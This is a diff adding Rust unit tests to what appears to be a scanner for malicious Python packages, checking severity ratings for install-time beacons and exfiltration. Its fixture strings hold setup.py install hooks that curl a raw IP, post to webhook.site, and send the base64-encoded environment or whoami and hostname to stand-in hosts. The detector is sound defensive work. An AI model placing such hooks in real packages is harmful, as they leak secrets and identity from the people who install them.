@@ -1152,3 +1152,47 @@ fn decrypting_is_not_a_ransom_note() {
     );
     assert_eq!(severity_of("cookies.py", &note, "destroy-user-data"), Some(Severity::Critical));
 }
+
+/// A request to a raw IP, a webhook or a testing domain made while the
+/// package installs or as soon as it is imported is a beacon by itself; the
+/// same request in a function its user calls is a medium fact. Written for
+/// the test.
+#[test]
+fn a_callback_to_a_suspicious_host_at_install_or_import_is_a_beacon() {
+    let at_import = "import requests\nrequests.get('https://probe-1234.oast.example.oast.fun')\n";
+    assert_eq!(severity_of("pkg/__init__.py", at_import, "suspicious-callback"), Some(Severity::High));
+    let curl_at_install = "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\
+                           def ping():\n    os.system('curl http://203.0.113.7:8080')\n\
+                           class Hook(install):\n    def run(self):\n        ping()\n        install.run(self)\n\
+                           setup(name='x', cmdclass={'install': Hook})\n";
+    assert_eq!(severity_of("setup.py", curl_at_install, "suspicious-callback"), Some(Severity::High));
+    let webhook_at_install = "import requests\nfrom setuptools import setup\n\
+                              requests.post('https://webhook.site/00000000-0000', data={'p': 'x'})\nsetup(name='x')\n";
+    assert_eq!(severity_of("setup.py", webhook_at_install, "suspicious-callback"), Some(Severity::High));
+    // Asked for: a tool's function that posts to a webhook its user reads.
+    let on_request =
+        "import requests\ndef notify(msg):\n    requests.post('https://webhook.site/00000000-0000', data=msg)\n";
+    assert_eq!(severity_of("notify.py", on_request, "suspicious-callback"), None);
+    assert_eq!(severity_of("notify.py", on_request, "network-suspicious-host"), Some(Severity::Medium));
+    // A library's own service, at import, is no testing domain.
+    let own = "import requests\nVERSION = requests.get('https://pypi.org/pypi/x/json').json()\n";
+    assert_eq!(severity_of("pkg/__init__.py", own, "suspicious-callback"), None);
+}
+
+/// What an HTTP tool's command line substitutes from the shell goes out
+/// with it: the whole environment encoded and sent by curl while the
+/// package installs is exfiltration. Written for the test.
+#[test]
+fn curl_sends_what_its_command_line_substitutes() {
+    let env = "import os\nfrom setuptools import setup\n\
+               os.system('curl \"https://collect.example.org/x/$(env | base64 -w 0)\"')\nsetup(name='x')\n";
+    assert_eq!(severity_of("setup.py", env, "exfiltration"), Some(Severity::Critical));
+    let who = "import os\nfrom setuptools import setup\n\
+               os.system('curl https://collect.example.org/?u=$(whoami)&h=$(hostname)')\nsetup(name='x')\n";
+    assert_eq!(severity_of("setup.py", who, "install-beacon"), Some(Severity::Critical));
+    // A download whose command line substitutes nothing sends nothing.
+    let fetch = "import os\nfrom setuptools import setup\n\
+                 os.system('curl -L -o tool.tar.gz https://releases.example.org/tool.tar.gz')\nsetup(name='x')\n";
+    assert_eq!(severity_of("setup.py", fetch, "exfiltration"), None);
+    assert_eq!(severity_of("setup.py", fetch, "install-beacon"), None);
+}
